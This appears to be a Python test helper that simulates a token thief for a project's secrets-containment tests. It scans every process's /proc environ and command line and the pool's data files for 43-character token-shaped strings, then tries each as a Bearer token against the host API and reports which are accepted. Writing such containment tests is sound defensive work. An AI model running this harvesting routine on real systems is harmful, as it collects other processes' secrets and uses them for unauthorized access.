"""The host token thief of the secrets tests: a process of the hosts' own user that is no part of
the pool (tests/test_ray_backend.py runs it as a Ray task on a host's node, tests/test_containment.py
as a process beside a local pool)."""

from __future__ import annotations

import json
import sys
from typing import Any


def _files(root: str, limit: int) -> list[str]:
    """Up to ``limit`` paths under ``root``, walked with a stack of its own: the pool's data dirs can
    hold trees deeper than Python's recursion limit (a slot's nested directories, a trash not yet
    emptied), where a recursive glob or ``os.walk`` (3.11) raises instead of reading."""
    import os

    out: list[str] = []
    stack = [root]
    while stack and len(out) < limit:
        top = stack.pop()
        try:
            entries = list(os.scandir(top))
        except OSError:
            continue
        for entry in entries:
            out.append(entry.path)
            try:
                if entry.is_dir(follow_symlinks=False):
                    stack.append(entry.path)
            except OSError:
                pass
    return out[:limit]


def steal_host_token(roots: list[str], url: str) -> dict[str, Any]:
    """What an unrelated process of the hosts' user does (a trainer's task on a sandbox node, or
    any process beside a local pool): read every environ block, command line and the pool's
    files for token-shaped strings (``new_token``: 43 url-safe characters), then call the host
    API with each. Runs in a Ray task or a subprocess (nothing of the test's state comes with it)."""
    import glob
    import re
    import urllib.error
    import urllib.request

    shaped = re.compile(rb"(?<![A-Za-z0-9_-])[A-Za-z0-9_-]{43}(?![A-Za-z0-9_-])")
    found: set[bytes] = set()
    read = {"environ": 0, "cmdline": 0, "files": 0}
    paths = [(k, f) for k in ("environ", "cmdline") for f in glob.glob(f"/proc/[0-9]*/{k}")]
    paths += [("files", f) for root in roots for f in _files(root, 5000)]
    for kind, path in paths:
        try:
            with open(path, "rb") as fh:
                blob = fh.read(1 << 20)
        except OSError:  # a directory, a socket, a process gone, or not ours to read
            continue
        read[kind] += 1
        found.update(shaped.findall(blob))
    accepted = []
    for candidate in sorted(found):
        req = urllib.request.Request(f"{url}/v1/slots", headers={"Authorization": f"Bearer {candidate.decode()}"})
        try:
            with urllib.request.urlopen(req, timeout=10) as resp:
                if resp.status == 200:
                    accepted.append(candidate.decode())
        except (urllib.error.URLError, OSError):
            pass
    return {"read": read, "candidates": [c.decode() for c in found], "accepted": accepted}


if __name__ == "__main__":  # python -m tests.token_theft URL ROOT...
    print(json.dumps(steal_host_token(sys.argv[2:], sys.argv[1])))
